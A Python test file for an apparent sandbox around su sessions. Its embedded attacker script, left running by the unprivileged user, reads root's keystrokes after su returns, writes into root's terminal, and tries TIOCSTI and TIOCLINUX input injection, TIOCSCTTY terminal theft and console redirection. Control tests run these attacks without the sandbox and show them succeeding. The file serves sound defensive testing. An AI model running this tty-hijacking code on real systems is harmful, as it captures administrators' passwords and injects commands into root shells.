#!/usr/bin/python3
"""A terminal of root's that a tenant had: what the tenant leaves behind on it, and takes along.

Root's shell stands on a terminal, the tenant comes and goes by su, and root types on.
"""

import os
import re
import shlex
import sys

import attack
from attack import UID, USER
from report import equal, note, test, true, wait_until
from terminal import Terminal

STOLEN = f"/home/{USER}/stolen"
SECRET = "correct horse"
CODE = f"/home/{USER}/left.py"
NO_FILTER = attack.POLICY.replace("network = none\n", "network = none\nseccomp = none\n", 1)
STEALER = f'''
import ctypes, fcntl, os, signal, struct, sys, termios, time
libc = ctypes.CDLL(None, use_errno=True)
for number in (signal.SIGTTOU, signal.SIGTTIN, signal.SIGHUP, signal.SIGTERM):
    signal.signal(number, signal.SIG_IGN)

def read_on():
    """In the background: makes itself the foreground again and again, and reads."""
    os.set_blocking(0, False)
    out = os.open("{STOLEN}", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    end = time.monotonic() + 15
    while time.monotonic() < end:
        try:
            os.tcsetpgrp(0, os.getpgrp())
            os.write(out, os.read(0, 1000))
        except OSError:
            pass
        time.sleep(0.002)

def write_on():
    end = time.monotonic() + 15
    while time.monotonic() < end:
        time.sleep(0.1)
        os.write(1, b"[from the tenant]")

def flood():
    end = time.monotonic() + 15
    while time.monotonic() < end:
        fcntl.ioctl(0, termios.FIONREAD, struct.pack("i", 0))

def ioctl(request, argument):
    return libc.syscall(16, 0, ctypes.c_ulong(request), argument) == 0

def steal():
    """By another session: the terminal as its own."""
    if os.fork() == 0:
        os.setsid()
        for name, argument in (("TIOCSCTTY", 0), ("TIOCSCTTY-by-force", 1)):
            if ioctl(0x540e, ctypes.c_long(argument)):
                print("worked=" + name, flush=True)
        print("over", flush=True)
        os._exit(0)
    os.wait()

def attempts():
    """What is tried on the terminal while one has it; says what worked."""
    steal()
    byte = ctypes.create_string_buffer(b"x")
    discipline = ctypes.c_int(27)           # N_NULL: a terminal that is deaf and dumb
    for name, request, argument in (
            ("TIOCSTI", 0x5412, byte), ("TIOCSTI-with-high-bits", 0x5412 | 0xdead << 32, byte),
            ("TIOCLINUX", 0x541c, byte), ("TIOCLINUX-with-high-bits", 0x541c | 1 << 32, byte),
            ("TIOCCONS", 0x541d, None), ("TIOCVHANGUP", 0x5437, None)):
        if ioctl(request, argument):
            print("worked=" + name, flush=True)
    termios.tcflush(0, termios.TCIFLUSH)
    if ioctl(0x5423, ctypes.byref(discipline)):
        ioctl(0x5423, ctypes.byref(ctypes.c_int(0)))
        print("worked=TIOCSETD", flush=True)

if sys.argv[1] in ("attempts", "steal"):
    globals()[sys.argv[1]]()
else:
    if os.fork():
        time.sleep(0.3)
        os._exit(0)
    os.setpgid(0, 0)
    globals()[sys.argv[1]]()
'''


def write_code():
    attack.hostfiles.write(CODE, STEALER, 0o644)
    os.chown(CODE, UID, UID)


def root_shell():
    terminal = Terminal(["bash", "--norc"], env={**os.environ, "PS1": "$ "})
    terminal.expect(r"\$ $", 20)
    return terminal


def su_and_back(terminal, *words, door="su"):
    """The tenant comes by su, does what the words say, and goes: root's shell is there again."""
    command = shlex.join([attack.PYTHON, "-I", CODE, *words])
    terminal.line(f"{door} {USER} --session-command {shlex.quote(command)}; echo ba''ck")
    terminal.expect("back", 30)


def box(on, policy=attack.POLICY):
    """With the module or, for the control, without."""
    attack.host.write_policy(policy)
    (attack.host.switch_on if on else attack.host.switch_off)("su")


def tenants():
    """The processes of the tenant that run the code."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if CODE.encode() in file.read() and os.stat(f"/proc/{pid}").st_uid == UID:
                    found.append(int(pid))
        except OSError:
            continue
    return found


def end_tenants():
    for pid in tenants():
        os.kill(pid, 9)
    wait_until(lambda: not tenants(), "the tenant's processes are gone", 10)


def read_stolen():
    with open(STOLEN, encoding="utf-8", errors="replace") as file:
        return file.read()


def stolen(door="su", ends=False, least=20):
    """What the tenant has of what root types after the tenant has gone, and who has it.

    Root types so many lines, or goes on until the tenant has what it wants or has ended."""
    with open(STOLEN, "w", encoding="utf-8") as file:
        os.chown(file.fileno(), UID, UID)
    with root_shell() as terminal:
        su_and_back(terminal, "read_on", door=door)
        if ends:
            # Nobody waits for the death of a box: it is a moment after the session's.
            wait_until(lambda: not tenants(), f"{door}: what was left has ended", 10)
        typed = 0
        while typed < least if least else tenants() and SECRET not in read_stolen():
            terminal.line(f": {SECRET}")
            terminal.read_some(0.1)
            typed += 1
        left = tenants()
    end_tenants()
    return read_stolen(), left


@test
def what_is_left_running_reads_roots_keys_where_there_is_no_box():
    """The control."""
    box(False)
    text, left = stolen(least=None)
    true(left and SECRET in text, "the tenant reads what root types", (left, text))


@test
def what_is_left_running_ends_with_the_session_and_reads_nothing():
    box(True)
    for door in ("su", "su --pty"):
        text, left = stolen(door, ends=True)
        equal((left, SECRET in text), ([], False), f"{door}: who is left, and read: {text}")


@test
def through_a_pty_nothing_is_read_by_a_box_that_lives_on():
    """`leftover = keep`: the tenant's process may live, and has another terminal."""
    box(True, attack.POLICY.replace("network = none\n", "network = none\nleftover = keep:30s\n", 1))
    text, left = stolen("su --pty")
    note(f"{len(left)} processes lived on")
    true(SECRET not in text, "nothing of root's", text)
    attack.run(["loginbox", "kill", USER])


@test
def what_is_left_running_writes_nothing_afterwards():
    box(False)
    with root_shell() as terminal:
        su_and_back(terminal, "write_on")
        terminal.ask("true")
        terminal.expect(r"\[from the tenant\]", 20)    # the control: without a box it writes on
    end_tenants()
    box(True)
    with root_shell() as terminal:
        su_and_back(terminal, "write_on")
        wait_until(lambda: not tenants(), "in a box it ends")
        # What it wrote before comes before this.
        terminal.ask("true")
        start = terminal.mark
        terminal.line("sleep 0.5; echo do''ne")
        terminal.expect("done", 20)
        true("[from the tenant]" not in terminal.seen[start:], "nothing afterwards", terminal.seen)


@test
def a_flood_of_questions_ends_with_the_session():
    box(False)
    with root_shell() as terminal:
        su_and_back(terminal, "flood")
        true(tenants(), "the control: without a box it goes on")
    end_tenants()
    box(True)
    with root_shell() as terminal:
        su_and_back(terminal, "flood")
        wait_until(lambda: not tenants(), "in a box it ends", 10)
        equal(terminal.ask("echo mine").strip(), "mine", "root's shell")


def worked(text):
    return set(re.findall(r"worked=([\w-]+)", text))


def attempts():
    with root_shell() as terminal:
        su_and_back(terminal, "attempts")
        # Whatever was tried: root's shell has its terminal.
        equal(terminal.ask("tty >/dev/null && echo mine").strip(), "mine", "root's shell")
        return worked(terminal.seen)


@test
def root_may_take_a_terminal_from_another_session():
    """The control: by force it is possible."""
    with Terminal([attack.PYTHON, "-I", CODE, "steal"]) as terminal:
        terminal.expect("over")
        equal(worked(terminal.seen), {"TIOCSCTTY-by-force"}, "what worked for root")


@test
def the_terminal_cannot_be_taken_over_or_typed_into():
    box(True, NO_FILTER)
    with open("/proc/sys/dev/tty/legacy_tiocsti", encoding="utf-8") as file:
        typed = {"TIOCSTI", "TIOCSTI-with-high-bits"} if file.read().strip() == "1" else set()
    equal(attempts() & {"TIOCSTI", "TIOCSTI-with-high-bits", "TIOCSCTTY"}, typed,
          "the control: without the filter one can type")
    box(True)
    equal(attempts(), set(), "what worked")


if __name__ == "__main__":
    if attack.host.has_product():
        write_code()
    sys.exit(attack.main(()))
